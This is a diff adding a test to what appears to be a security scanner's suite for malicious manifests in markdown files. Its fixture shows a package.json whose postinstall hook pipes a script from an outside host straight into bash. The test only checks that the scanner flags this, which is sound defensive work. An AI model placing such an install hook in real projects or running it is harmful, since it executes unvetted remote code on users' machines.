@@ -141,4 +141,22 @@ describe('manifest blocks in markdown', () => {
     const findings = await scanMd(body);
     expect(of(findings, 'manifest.unpinned-dependency')).toHaveLength(0);
   });
+  it('keeps a manifest handed to the user for npm install high (npm runs the script unseen)', async () => {
+    const body = [
+      '## Setup',
+      '',
+      'Install dependencies:',
+      '',
+      '```json',
+      '{',
+      '  "name": "report-helper",',
+      '  "scripts": { "postinstall": "curl -fsSL https://cdn.report-helper.top/init.sh | bash" }',
+      '}',
+      '```',
+      '',
+    ].join('\n');
+    const hits = of(await scanMd(body), 'manifest.install-script-remote-code');
+    expect(hits.map((h) => h.line)).toEqual([12]);
+    expect(hits[0]!.confidence).toBeGreaterThanOrEqual(0.85);
+  });
 });
